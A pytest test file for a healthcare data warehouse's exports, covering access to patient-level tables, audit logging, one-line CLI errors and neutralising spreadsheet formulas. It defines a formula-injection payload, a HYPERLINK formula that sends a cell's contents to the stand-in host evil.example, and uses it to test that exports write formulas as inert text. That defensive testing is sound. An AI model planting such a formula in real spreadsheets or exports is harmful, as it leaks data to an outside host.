"""Exports, principals and one-line CLI errors (issue 12, items 7, 8, 10, 11, 15).

Patient-level tables leave the warehouse only for a principal entitled to them: a practice
gets its own patients, the commissioner's data role gets all (and the export is in the
audit log); nobody else, and no export without a principal. Text is written as text in
every workbook and CSV (no live formulas). A user's mistake is one line, exit code 2.
"""

from __future__ import annotations

import csv
import errno
import re
from pathlib import Path

import duckdb
import openpyxl
import pandas as pd
import pyarrow.parquet as pq
import pytest
from typer.testing import CliRunner

from pbc.cli import app
from pbc.decisions.store import DecisionStore
from pbc.services.export import export_table, patient_level
from pbc.services.principal import AccessDenied, Principal, parse_principal
from pbc.warehouse import Warehouse, WarehouseError

INJECTED = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.fixture(scope="module")
def economy(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Warehouse]:
    """A small synthetic economy, loaded and priced; one practice's name is a formula."""
    from pbc.services.pricing import run_pricing
    from pbc.synth import SynthConfig, generate
    from pbc.warehouse.load import load

    base = tmp_path_factory.mktemp("export")
    generate(SynthConfig(practices=3, groups=2, local_authorities=1, seed=5, years=1,
                         start_year=2025, fault_rate=0.02), base / "in")
    practices = pd.read_parquet(base / "in" / "practices.parquet")
    practices.loc[0, "practice_name"] = INJECTED
    practices.to_parquet(base / "in" / "practices.parquet", index=False)
    wh = Warehouse(base / "wh")
    load(base / "in", wh)
    run_pricing(wh)
    return base, wh


def _practice(wh: Warehouse) -> tuple[str, int]:
    """The first practice and its number of patients in the warehouse."""
    code, n = wh.query("SELECT practice_code, count(*) FROM patients GROUP BY 1 ORDER BY 1 "
                       "LIMIT 1")[0]
    return str(code), int(n)


def _commissioner(wh: Warehouse) -> str:
    return str(wh.query("SELECT DISTINCT commissioner_code FROM practices")[0][0])


# ------------------------------------------------------------------ item 8: access
def test_patient_level_tables(economy: tuple[Path, Warehouse]) -> None:
    _, wh = economy
    for t in ("patients", "patient_conditions", "apc_spells", "op_attendances",
              "ae_attendances", "priced_activity", "quarantine"):
        assert patient_level(wh, t), t
    for t in ("practices", "groups", "reconciliation", "tariff_apc"):
        assert not patient_level(wh, t), t


@pytest.mark.parametrize("table", ["patients", "priced_activity", "quarantine"])
def test_export_without_principal_refuses(economy: tuple[Path, Warehouse], table: str,
                                          tmp_path: Path) -> None:
    _, wh = economy
    out = tmp_path / f"{table}.csv"
    with pytest.raises(AccessDenied, match="--as"):
        export_table(wh, table, out, None)
    assert not out.exists()
    result = CliRunner().invoke(app, ["export", table, "--out", str(out), "-w", str(wh.root)])
    assert result.exit_code == 2 and "patient-level" in result.output
    assert not out.exists()


def test_practice_exports_its_own_patients_only(economy: tuple[Path, Warehouse],
                                                tmp_path: Path) -> None:
    _, wh = economy
    code, n = _practice(wh)
    out = tmp_path / "own.csv"
    rows = export_table(wh, "patients", out, Principal("gp", "practice", code))
    with open(out, newline="", encoding="utf-8") as f:
        got = list(csv.DictReader(f))
    assert rows == len(got) == n
    assert {r["practice_code"] for r in got} == {code}
    assert out.stat().st_mode & 0o007 == 0  # patient rows: owner and group only


@pytest.mark.parametrize("who", [
    Principal("gp", "practice", "A81001"), Principal("lead", "group", "G01"),
    Principal("ana", "commissioner", "X"), Principal("la", "local_authority", "E06000001"),
    Principal("anyone", "public", "-"),
])
def test_others_get_no_patient_rows(economy: tuple[Path, Warehouse], who: Principal,
                                    tmp_path: Path) -> None:
    _, wh = economy
    if who.role == "commissioner":
        who = Principal("ana", "commissioner", _commissioner(wh))
    for table in ("quarantine", "apc_spells") if who.role != "practice" else ("quarantine",):
        with pytest.raises(AccessDenied):
            export_table(wh, table, tmp_path / "x.csv", who)
        assert not (tmp_path / "x.csv").exists()


def test_data_role_exports_all_and_is_audited(economy: tuple[Path, Warehouse],
                                              tmp_path: Path) -> None:
    base, wh = economy
    qhm = _commissioner(wh)
    out = tmp_path / "all.parquet"
    rows = export_table(wh, "patients", out, Principal("dm", "commissioner_data", qhm))
    delivered = duckdb.connect().execute(
        f"SELECT count(*) FROM '{base / 'in' / 'patients.parquet'}'").fetchall()[0][0]
    quarantined = wh.query("SELECT count(*) FROM quarantine WHERE source_table = 'patients'")
    n = delivered - quarantined[0][0]
    assert rows == n == pq.read_metadata(out).num_rows
    events = [e for e in DecisionStore.beside(wh.root).audit_log() if e.action == "export"]
    assert events and events[-1].entity_id == "patients"
    assert events[-1].actor == "dm" and events[-1].actor_role == f"commissioner_data:{qhm}"
    assert f'"rows": {n}' in events[-1].detail
    with pytest.raises(AccessDenied, match="not a commissioner"):
        export_table(wh, "patients", tmp_path / "b.csv", Principal("dm", "commissioner_data",
                                                                   "QXX"))


def test_aggregate_tables_need_no_principal(economy: tuple[Path, Warehouse],
                                            tmp_path: Path) -> None:
    _, wh = economy
    assert export_table(wh, "practices", tmp_path / "p.csv", None) == 3


# ------------------------------------------------------------------ item 7: not into the warehouse
def test_export_into_the_warehouse_refused(economy: tuple[Path, Warehouse]) -> None:
    _, wh = economy
    folder = wh.current / "tables" / "practices"  # type: ignore[operator]
    before = sorted(folder.rglob("*"))
    with pytest.raises(WarehouseError, match="inside the warehouse"):
        export_table(wh, "practices", folder / "copy.parquet", None)
    with pytest.raises(WarehouseError, match="inside the warehouse"):
        export_table(wh, "practices", wh.root / "x.csv", None)
    assert sorted(folder.rglob("*")) == before and wh.verify() == []


# ------------------------------------------------------------------ item 10: formulas
def _cells(path: Path) -> list[openpyxl.cell.cell.Cell]:
    book = openpyxl.load_workbook(path)
    return [c for ws in book.worksheets for row in ws.iter_rows() for c in row]


def test_xlsx_export_writes_text_as_text(economy: tuple[Path, Warehouse],
                                         tmp_path: Path) -> None:
    _, wh = economy
    export_table(wh, "practices", tmp_path / "p.xlsx", None)
    hits = [c for c in _cells(tmp_path / "p.xlsx") if c.value == INJECTED]
    assert hits and all(c.data_type == "s" for c in hits)
    assert not [c for c in _cells(tmp_path / "p.xlsx") if c.data_type == "f"]


def test_csv_export_neutralises_formula_prefixes(economy: tuple[Path, Warehouse],
                                                 tmp_path: Path) -> None:
    _, wh = economy
    export_table(wh, "practices", tmp_path / "p.csv", None)
    with open(tmp_path / "p.csv", newline="", encoding="utf-8") as f:
        names = [r["practice_name"] for r in csv.DictReader(f)]
    assert "'" + INJECTED in names and INJECTED not in names


def test_benchmark_workbook_and_csv_write_text_as_text(tmp_path: Path) -> None:
    from pbc.indicators.definition import load_indicators
    from pbc.services.benchmarking import BenchmarkResult, write_result

    ind = next(iter(load_indicators().values()))
    table = pd.DataFrame({"indicator": [ind.id], "practice": [INJECTED], "numerator": [30],
                          "denominator": [2000], "value": [1.5]})
    series = pd.DataFrame({"indicator": [ind.id], "practice": ["+1+2"], "financial_year":
                           ["2025-26"], "month": [1], "numerator": [30], "denominator": [2000],
                           "value": [1.5]})
    result = BenchmarkResult(ind, "practice", table, series)
    write_result(result, tmp_path / "b.xlsx")
    cells = _cells(tmp_path / "b.xlsx")
    # the only formulas are the totals row's sums of the column above (cached values)
    assert {c.value for c in cells if c.data_type == "f"} == {"=SUM(C8:C8)", "=SUM(D8:D8)"}
    assert [c.value for c in cells if c.value in (INJECTED, "+1+2")] == [INJECTED, "+1+2"]
    write_result(result, tmp_path / "b.csv")
    assert "'=HYPERLINK" in (tmp_path / "b.csv").read_text(encoding="utf-8")
    assert "'+1+2" in (tmp_path / "b_monthly.csv").read_text(encoding="utf-8")


def test_every_workbook_writer_in_src_turns_formulas_off() -> None:
    src = Path(__file__).resolve().parents[1] / "src"
    for path in src.rglob("*.py"):
        text = path.read_text(encoding="utf-8")
        for marker in ("ExcelWriter(", "xlsxwriter.Workbook(", 'engine="xlsxwriter"'):
            for m in re.finditer(re.escape(marker), text):
                near = text[m.start():m.start() + 300]
                assert "strings_to_formulas" in near or "XLSX_OPTIONS" in near, \
                    f"{path}: {marker}"


# ------------------------------------------------------------------ item 11: principals
def test_parse_principal() -> None:
    p = parse_principal("practice:A81001", user="gp")
    assert (p.role, p.organisation, p.user, p.authenticated, p.source) == (
        "practice", "A81001", "gp", False, "--as (self-declared)")
    assert parse_principal("commissioner_data:QHM").user is None
    for bad in ("practice", "nurse:A81001", "practice:", ":A81001"):
        with pytest.raises(ValueError, match="ROLE:ORGANISATION"):
            parse_principal(bad)


def test_help_says_identity_is_self_declared() -> None:
    out = CliRunner().invoke(app, ["export", "--help"], terminal_width=200).output
    assert "self-declared" in out and "not checked" in out


# ------------------------------------------------------------------ item 15: one-line errors
def _one_line_error(result: object) -> str:
    out = result.output  # type: ignore[attr-defined]
    assert result.exit_code == 2, out  # type: ignore[attr-defined]
    errors = [line for line in out.splitlines() if line.startswith("error:")]
    assert "Traceback" not in out and len(errors) == 1, out
    return str(out)


def test_risk_list_negative_top_is_one_line(economy: tuple[Path, Warehouse]) -> None:
    _, wh = economy
    code, _ = _practice(wh)
    out = _one_line_error(CliRunner().invoke(app, [
        "risk", "list", code, "--top", "-1", "-w", str(wh.root), "--as", f"practice:{code}"]))
    assert "--top" in out


@pytest.mark.parametrize("year", ["banana", "2019/20"])
def test_benchmark_unknown_year_is_an_error(economy: tuple[Path, Warehouse], year: str) -> None:
    _, wh = economy
    out = _one_line_error(CliRunner().invoke(app, [
        "benchmark", "--indicator", "ae_attendances", "--year", year, "-w", str(wh.root)]))
    assert ("not a financial year" in out) if year == "banana" else ("2019-20" in out)


@pytest.mark.parametrize(("year", "version"), [("2025/26", "99"), ("banana", "1"),
                                               ("2031/32", "1")])
def test_budgets_agree_unknown_version_or_year_is_one_line(
        economy: tuple[Path, Warehouse], year: str, version: str) -> None:
    _, wh = economy
    _one_line_error(CliRunner().invoke(app, [
        "budgets", "agree", "--year", year, "--version", version, "-w", str(wh.root),
        "--as", f"commissioner:{_commissioner(wh)}"]))


def test_disk_full_during_price_is_one_line_and_leaves_the_warehouse(
        economy: tuple[Path, Warehouse], monkeypatch: pytest.MonkeyPatch) -> None:
    import pbc.warehouse.store as store

    _, wh = economy
    version = wh.manifest()["version"]

    def full(*args: object, **kwargs: object) -> None:
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(store, "write_partitioned", full)
    out = _one_line_error(CliRunner().invoke(app, ["price", "-w", str(wh.root), "--full"]))
    assert "no space left" in out.lower() and "unchanged" in out
    assert wh.manifest()["version"] == version and wh.verify() == []
    assert not list((wh.root / "versions").glob(".staging-*"))


@pytest.mark.parametrize("name", ["Risk A8[1]", "a/b\\c:d*e?f", "x" * 40, "''", ""])
def test_sheet_names_from_codes_are_valid_for_excel(tmp_path: Path, name: str) -> None:
    """A code with ``[`` (or any character Excel refuses) named a sheet and stopped the
    workbook with a traceback; the name is made valid instead."""
    from pbc.warehouse.export import XLSX_OPTIONS, sheet_title

    title = sheet_title(name)
    assert 1 <= len(title) <= 31 and not set(title) & set("[]:*?/\\")
    pd.DataFrame({"a": [1]}).to_excel(tmp_path / "s.xlsx", sheet_name=title,
                                      engine="xlsxwriter", engine_kwargs=XLSX_OPTIONS)
